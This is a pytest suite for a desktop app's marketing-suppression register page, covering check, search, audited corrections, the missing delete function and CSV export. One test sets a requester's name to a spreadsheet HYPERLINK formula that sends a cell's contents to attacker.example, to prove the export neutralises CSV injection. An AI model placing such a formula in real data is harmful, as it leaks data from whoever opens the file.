"""The suppression register page: check, search, correct with a reason, export; never delete."""

import csv

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QLabel, QLineEdit, QMessageBox, QPushButton

from desktop.services.cases import CaseDraft, Requester
from desktop.ui.dialogs.suppression_correction import SuppressionCorrectionDialog
from desktop.ui.dialogs.suppression_export import (
    NORMALISATION_HELP,
    SuppressionExportDialog,
    choose_export_file,
    csv_path,
)
from desktop.ui.models.suppression_table import CHANNEL, EMAIL, NAME, REASON, SuppressionTableModel
from desktop.ui.pages.suppression import SuppressionPage

CORRECTED = "SELECT count(*) FROM audit_log WHERE action = 'suppression-corrected'"


def log(services, types, name, email, phone=None, address=None):
    draft = CaseDraft(
        channel="email",
        received="2026-11-20",
        types=types,
        requester=Requester(name=name, email=email, phone=phone, address=address),
    )
    return services.cases.log_case(draft)


@pytest.fixture
def entries(services):
    """Anne objected to direct marketing (5 channels); Jürgen unsubscribed (newsletter only)."""
    anne = log(
        services,
        ["objection-marketing"],
        "Anne de Vries",
        "anne@example.org",
        "+31 30 123 4567",
        "Oudegracht 1\n3511 AX Utrecht",
    )
    services.decisions.uphold_marketing_objection(anne.id)
    jurgen = log(services, ["unsubscribe"], "Jürgen Müller", "j.mueller@beispiel.de")
    services.decisions.confirm_unsubscribe(jurgen.id)
    return {"anne": anne, "jurgen": jurgen}


@pytest.fixture
def page(qtbot, services, entries):
    widget = SuppressionPage(services.suppression)
    qtbot.addWidget(widget)
    widget.resize(1080, 720)
    widget.show()
    return widget


@pytest.fixture
def warnings(monkeypatch):
    calls = []
    monkeypatch.setattr(QMessageBox, "warning", lambda *args: calls.append(args))
    return calls


def column(page, col):
    return [page.model.index(row, col).data() for row in range(page.model.rowCount())]


def visible_errors(widget):
    return [
        label.text()
        for label in widget.findChildren(QLabel, "fieldError")
        if label.isVisible() and label.text()
    ]


def test_the_table_lists_every_entry(page, entries):
    assert page.findChild(QLabel, "pageTitle").text()
    assert page.model.rowCount() == 6
    assert page.model.total == 6
    assert "6" in page.count_label.text()
    assert sorted(column(page, CHANNEL)) == sorted(
        [
            "Advertising by post",
            "Advertising by email",
            "Advertising by telephone",
            "Retargeting and profiling",
            "Newsletter",
            "Newsletter",
        ]
    )
    assert column(page, NAME).count("Anne de Vries") == 5
    assert column(page, NAME)[0] == "Jürgen Müller"  # newest first
    assert column(page, EMAIL)[0] == "j.mueller@beispiel.de"
    assert column(page, REASON)[0] == "Unsubscribe"
    headers = [page.model.headerData(c, Qt.Orientation.Horizontal) for c in range(8)]
    assert page.model.columnCount() == 8 and all(headers)
    row = column(page, NAME).index("Anne de Vries")
    assert page.model.index(row, 3).data() == "+31301234567"
    assert page.model.index(row, 5).data() == entries["anne"].reference
    assert page.model.index(row, 6).data() == "20 Nov 2026"  # effective as received
    assert page.model.index(row, 7).data() == ""


def test_channel_filter_and_search_narrow_the_list(page, qtbot):
    page.channel.setCurrentIndex(page.channel.findData("newsletter"))
    assert page.model.rowCount() == 2
    assert set(column(page, CHANNEL)) == {"Newsletter"}
    assert page.model.total == 2 and "2" in page.count_label.text()

    page.findChild(QLineEdit, "search").setText("müller")  # as-you-type, after the debounce
    qtbot.waitUntil(lambda: page.model.rowCount() == 1)
    assert column(page, NAME) == ["Jürgen Müller"]
    assert page.model.total == 1 and "1" in page.count_label.text()

    page.channel.setCurrentIndex(page.channel.findData("post"))
    assert page.model.rowCount() == 0
    page.channel.setCurrentIndex(0)
    assert column(page, NAME) == ["Jürgen Müller"]
    page.search.clear()
    qtbot.waitUntil(lambda: page.model.rowCount() == 6)

    page.search.setText("PD-2026")
    qtbot.waitUntil(lambda: page.model.rowCount() == 6)
    page.search.setText("anne@")
    qtbot.waitUntil(lambda: page.model.rowCount() == 5)


def test_the_list_is_fetched_in_pages(qtbot, services):
    case = log(services, ["objection-marketing"], "Paged Person", "paged@example.org")
    services.decisions.uphold_marketing_objection(case.id)
    model = SuppressionTableModel(services.suppression, page_size=2)
    root = model.index(-1, -1)
    assert model.total == 5
    assert model.rowCount() == 2
    assert model.canFetchMore(root)
    while model.canFetchMore(root):
        model.fetchMore(root)
    assert model.rowCount() == 5
    assert model.row_of(model.entry(4)["id"]) == 4

    with qtbot.waitSignal(model.total_changed) as changed:
        model.set_query("", "newsletter")
    assert changed.args == [1] and model.rowCount() == 1
    assert not model.canFetchMore(root)


def check_fields(page):
    return page.findChild(QLineEdit, "checkEmail"), page.findChild(QLineEdit, "checkPhone")


def result(page):
    return page.findChild(QLabel, "checkResult").property("result")


def test_the_check_finds_a_suppressed_person(page, qtbot, entries):
    email, _phone = check_fields(page)
    email.setText(" ANNE@example.org ")
    found = page.check.check_person()
    assert found["suppressed"] and len(found["channels"]) == 5
    assert result(page) == "suppressed"
    assert entries["anne"].reference in page.check.result_text()

    email.setText("j.mueller@beispiel.de")
    assert page.check.check_person()["channels"] == ["newsletter"]
    assert result(page) == "partly"
    assert entries["jurgen"].reference in page.check.result_text()

    email.setText("someone.else@example.org")
    assert not page.check.check_person()["suppressed"]
    assert result(page) == "clear"


def test_enter_in_either_field_runs_the_check(page, qtbot):
    email, phone = check_fields(page)
    phone.setText("0031 30 123 4567")  # another spelling of Anne's number
    qtbot.keyClick(phone, Qt.Key.Key_Return)
    assert result(page) == "suppressed"

    phone.clear()
    email.setText("nobody@example.org")
    qtbot.keyClick(email, Qt.Key.Key_Enter)
    assert result(page) == "clear"


def test_a_bad_check_is_marked(page):
    email, phone = check_fields(page)
    assert page.check.check_person() is None  # nothing typed
    assert email.property("invalid") is True
    assert page.check.error.isVisible() and page.check.error.property("field") == "email"
    assert len(visible_errors(page)) == 1
    assert result(page) == ""

    email.setText("x@example.org")
    phone.setText("12")
    assert page.check.check_person() is None
    assert phone.property("invalid") is True
    assert email.property("invalid") is False
    assert page.check.error.property("field") == "phone"

    phone.clear()
    assert page.check.check_person() is not None
    assert visible_errors(page) == []
    assert phone.property("invalid") is False


def test_a_correction_needs_a_reason(page, services, qtbot):
    page.select_entry(services.suppression.search()[0]["id"])
    dialog = page.correct_selected()
    dialog.fields["name"].setText("Jürgen Müller-Lüdenscheidt")
    with qtbot.assertNotEmitted(page.entry_corrected):
        assert dialog.save() is False
    assert dialog.reason.property("invalid") is True
    assert dialog.invalid_widgets() == [dialog.reason]
    assert list(dialog.errors()) == ["reason"]
    assert dialog.isVisible()
    assert services.suppression.search()[0]["name"] == "Jürgen Müller"
    assert services.ctx.store.scalar(CORRECTED) == 0


def test_a_bad_email_is_marked_in_the_correction(page, services):
    page.select_entry(services.suppression.search()[0]["id"])
    dialog = page.correct_selected()
    dialog.fields["email"].setText("not an address")
    dialog.reason.setPlainText("Typing error")
    assert dialog.save() is False
    assert dialog.fields["email"].property("invalid") is True
    assert list(dialog.errors()) == ["email"]
    assert services.ctx.store.scalar(CORRECTED) == 0


def test_nothing_changed_is_not_a_correction(page, services):
    page.select_entry(services.suppression.search()[0]["id"])
    dialog = page.correct_selected()
    dialog.reason.setPlainText("Checked, all fine")
    assert dialog.save() is False
    # No field to mark: the dialog's own line says it, naming the service's field.
    assert list(dialog.errors()) == [""] and dialog.error.property("field") == "changes"
    assert dialog.invalid_widgets() == []


def test_a_correction_with_a_reason_is_saved_and_audited(page, services, qtbot):
    entry = services.suppression.search()[0]
    page.select_entry(entry["id"])
    dialog = page.correct_selected()
    assert dialog.changes() == {}
    dialog.fields["name"].setText("Jürgen Müller-Lüdenscheidt")
    dialog.fields["email"].setText(" J.Mueller@Beispiel.DE ")  # same address, other spelling
    dialog.reason.setPlainText("Double name, see the letter of 20 November")
    with qtbot.waitSignal(page.entry_corrected):
        assert dialog.save() is True

    stored = services.suppression.search()[0]
    assert stored["name"] == "Jürgen Müller-Lüdenscheidt"
    assert stored["email"] == "j.mueller@beispiel.de"
    assert stored["correction"] == "Double name, see the letter of 20 November"
    assert services.ctx.store.scalar(CORRECTED) == 1
    assert page.selected_entry()["id"] == entry["id"]
    assert column(page, NAME)[0] == "Jürgen Müller-Lüdenscheidt"
    assert page.model.index(0, 7).data() == "24 Nov 2026"
    assert "Double name" in page.model.index(0, 7).data(Qt.ItemDataRole.ToolTipRole)


def test_double_click_opens_the_correction(page, qtbot):
    assert page.findChild(SuppressionCorrectionDialog) is None
    rect = page.table.visualRect(page.model.index(0, NAME))
    qtbot.mouseClick(page.table.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())
    qtbot.mouseDClick(page.table.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())
    qtbot.waitUntil(lambda: page.findChild(SuppressionCorrectionDialog) is not None)
    dialogs = [d for d in page.findChildren(SuppressionCorrectionDialog) if d.isVisible()]
    assert len(dialogs) == 1  # doubleClicked and activated both fire: one dialog
    dialog = dialogs[0]
    assert dialog.fields["name"].text() == "Jürgen Müller"
    dialog.reject()


def test_there_is_no_way_to_delete(page, services, qtbot):
    # Every action and button the page has: none of them deletes or lifts an entry.
    assert {a.objectName() for a in page.actions()} == {"check", "search", "correct", "export"}
    buttons = {b.objectName() for b in page.findChildren(QPushButton)}
    assert buttons == {"correct", "export", "primary"}  # "primary": the check's button
    page.table.selectRow(0)
    page.table.setFocus()
    qtbot.keyClick(page.table, Qt.Key.Key_Delete)
    qtbot.keyClick(page.table, Qt.Key.Key_Backspace)
    assert services.suppression.count() == 6
    assert page.model.rowCount() == 6
    assert not hasattr(services.suppression, "delete")
    assert not hasattr(page, "delete_selected")


def test_refresh_shows_new_entries_and_rechecks(page, services):
    check_fields(page)[0].setText("new@example.org")
    page.check.check_person()
    assert result(page) == "clear"
    case = log(services, ["unsubscribe"], "Zoë Ørsted", "new@example.org")
    services.decisions.confirm_unsubscribe(case.id)
    page.refresh()
    assert page.model.rowCount() == 7
    assert result(page) == "partly"  # a stale "not on it" would mislead


@pytest.mark.parametrize("hashed", [False, True])
def test_export_writes_every_entry(page, tmp_path, hashed):
    page.channel.setCurrentIndex(page.channel.findData("newsletter"))  # the filter does not matter
    path = tmp_path / "suppression.csv"
    assert page.export_to(path, hashed) == 6
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 6
    if hashed:
        assert "name" not in rows[0] and "email" not in rows[0]
        assert all(len(row["email_sha256"]) == 64 for row in rows)
    else:
        assert {row["name"] for row in rows} == {"Anne de Vries", "Jürgen Müller"}
    assert page.status_line.isVisible() and str(path) in page.status_line.text()


def test_export_of_a_name_that_looks_like_a_formula(page, services, tmp_path):
    """A spreadsheet runs a cell that starts with "=" as a formula (CSV injection)."""
    payload = '=HYPERLINK("https://attacker.example/?x="&B2,"Click")'
    case = log(services, ["unsubscribe"], payload, "formula@example.org")
    services.decisions.confirm_unsubscribe(case.id)
    path = tmp_path / "suppression.csv"
    assert page.export_to(path) == 7
    with path.open(encoding="utf-8-sig", newline="") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    # Quoted, so a spreadsheet shows the text and runs nothing; the rest of the cell as typed.
    assert "'" + payload in names and payload not in names
    # For a system that reads CSV as data: the exact value, on request.
    raw = tmp_path / "suppression-raw.csv"
    services.suppression.export_csv(raw, raw=True)
    with raw.open(encoding="utf-8-sig", newline="") as handle:
        assert payload in [row["name"] for row in csv.DictReader(handle)]


def test_the_export_action_asks_format_then_file(qtbot, services, entries, tmp_path):
    target = tmp_path / "hashed.csv"
    asked = []
    page = SuppressionPage(
        services.suppression,
        choose_format=lambda parent: True,
        choose_file=lambda parent, hashed: asked.append(hashed) or target,
    )
    qtbot.addWidget(page)
    page.export_action.trigger()
    assert asked == [True]
    with target.open(encoding="utf-8-sig", newline="") as handle:
        header = next(csv.reader(handle))
    assert header[1] == "email_sha256"

    cancelled = SuppressionPage(
        services.suppression,
        choose_format=lambda parent: None,
        choose_file=lambda parent, hashed: pytest.fail("not asked"),
    )
    qtbot.addWidget(cancelled)
    cancelled.export_action.trigger()
    assert not cancelled.status_line.isVisible()


def test_a_failed_export_is_reported(page, tmp_path, warnings):
    path = tmp_path / "missing" / "out.csv"
    assert page.export_to(path) is None
    assert len(warnings) == 1 and str(path) in warnings[0][2]
    assert not path.exists()
    assert not page.status_line.isVisible()


def test_the_export_dialog_explains_the_hashing(page, qtbot):
    dialog = SuppressionExportDialog(page)
    qtbot.addWidget(dialog)
    assert not dialog.is_hashed()
    dialog.hashed.setChecked(True)
    assert dialog.is_hashed()
    assert dialog.hashed_help.text() == dialog.tr(NORMALISATION_HELP)
    assert dialog.hashed.toolTip() == dialog.tr(NORMALISATION_HELP)


def test_the_export_file_always_ends_in_csv(monkeypatch, tmp_path):
    from desktop.ui.dialogs import suppression_export

    assert csv_path(tmp_path / "register") == tmp_path / "register.csv"
    assert csv_path(tmp_path / "register.CSV") == tmp_path / "register.CSV"
    assert csv_path(tmp_path / "register.txt") == tmp_path / "register.txt.csv"

    asked = []

    def file_dialog(parent, title, suggested, filters):
        asked.append(suggested)
        return answer

    monkeypatch.setattr(suppression_export, "choose_file_to_save", file_dialog)
    answer = (tmp_path / "register", "")
    assert choose_export_file(None, hashed=True) == tmp_path / "register.csv"
    assert asked == ["suppression-hashed.csv"]
    answer = (None, "")
    assert choose_export_file(None) is None
    assert asked[-1] == "suppression.csv"
